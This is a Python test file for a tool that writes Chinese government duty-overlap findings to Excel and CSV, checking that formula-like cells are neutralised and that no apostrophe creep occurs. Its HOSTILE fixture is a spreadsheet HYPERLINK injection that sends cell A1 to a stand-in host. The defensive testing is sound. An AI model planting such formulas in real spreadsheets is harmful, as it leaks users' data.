"""Nothing the tool writes runs as a formula (headers and matrix columns included), and the quote it adds
does not creep: export → review import → export leaves staff text as it was."""

import csv

import openpyxl

from duty_analyzer.findings import Finding
from duty_analyzer.ledger import read_ledger, write_ledger
from duty_analyzer.overlaps import CROSS, Overlap, OverlapReport
from duty_analyzer.tables import neutralise, row_writer, unneutralise
from duty_analyzer.workspace import import_review, merge

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'


def cells(path, sheet):
    ws = openpyxl.load_workbook(path)[sheet]
    return [[c.value for c in row] for row in ws.iter_rows()]


def is_live(value) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@"))


def test_a_department_named_like_a_formula_is_inert_in_the_matrix_header(tmp_path):
    overlap = Overlap("JC-1", CROSS, "停车场", [HOSTILE + "局", "市乙局"], [], 0.9, False, None, [], "同一对象")
    ws = tmp_path / "ws.sqlite"
    rows = merge(ws, [Finding("JC-1", "部门间职责边界不清", "停车场", [HOSTILE + "局", "市乙局"], "证据", "职责交叉", 0.9, "需编办关注解决")])
    write_ledger(tmp_path / "findings.xlsx", rows, OverlapReport([overlap], []), None)
    for sheet in ("问题台账", "职责交叉"):
        table = cells(tmp_path / "findings.xlsx", sheet)
        assert not any(is_live(v) for row in table for v in row), sheet
        assert any(isinstance(v, str) and "HYPERLINK" in v for row in table for v in row)


def test_classify_style_output_neutralises_copied_header_cells(tmp_path):
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"out{suffix}"
        with row_writer(out, [HOSTILE, "@SUM(1)", "诉求内容"]) as w:
            w.write(["-1+1", "+86 138", "正常"])
        if suffix == ".csv":
            table = list(csv.reader(out.open(encoding="utf-8-sig")))
        else:
            table = [[c.value for c in r] for r in openpyxl.load_workbook(out).active.iter_rows()]
        assert not any(is_live(v) for row in table for v in row)
        assert table[0][2] == "诉求内容" and table[1][2] == "正常"


def test_no_apostrophe_creep_over_export_import_rounds(tmp_path):
    ws = tmp_path / "ws.sqlite"
    finding = Finding("JC-1", "部门间职责边界不清", "停车场", ["市甲局", "市乙局"], "证据", "职责交叉", 0.9, "需编办关注解决")
    comments = ["- 已整改，待复查", "=已与市乙局沟通", "@张三 跟进", "+1 同意"]
    for comment in comments:
        rows = merge(ws, [finding])
        write_ledger(tmp_path / "findings.xlsx", rows, OverlapReport([], []), None)
        edits = read_ledger(tmp_path / "findings.xlsx")
        edits[0]["复核意见"] = comment
        import_review(ws, edits, "findings.xlsx")
        for _ in range(3):  # export and re-import without touching the cell
            rows = merge(ws, [finding])
            write_ledger(tmp_path / "findings.xlsx", rows, OverlapReport([], []), None)
            import_review(ws, read_ledger(tmp_path / "findings.xlsx"), "findings.xlsx")
        (row,) = merge(ws, [finding])
        assert row.comment == comment
        table = cells(tmp_path / "findings.xlsx", "问题台账")
        written = table[1][table[0].index("复核意见")]
        assert written == "'" + comment


def test_neutralise_and_unneutralise_are_inverse_on_our_prefix_only():
    for text in ["=1+1", "-x", "@a", "+b", "\t=1", "普通", "'普通", "'='"]:
        assert unneutralise(neutralise(text)) == text
    assert neutralise("=1") == "'=1" and neutralise("普通") == "普通"


def test_stale_temporaries_of_killed_writers_are_removed(tmp_path):
    import subprocess
    import sys

    from duty_analyzer.tables import atomic_target

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
    stale = tmp_path / f"report.html.{dead}.abc.tmp"
    stale.write_text("half", encoding="utf-8")
    mine = tmp_path / "report.html.draft.tmp"
    mine.write_text("not ours", encoding="utf-8")
    with atomic_target(tmp_path / "report.html") as tmp:
        tmp.write_text("whole", encoding="utf-8")
    assert not stale.exists() and mine.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.html", "report.html.draft.tmp"]
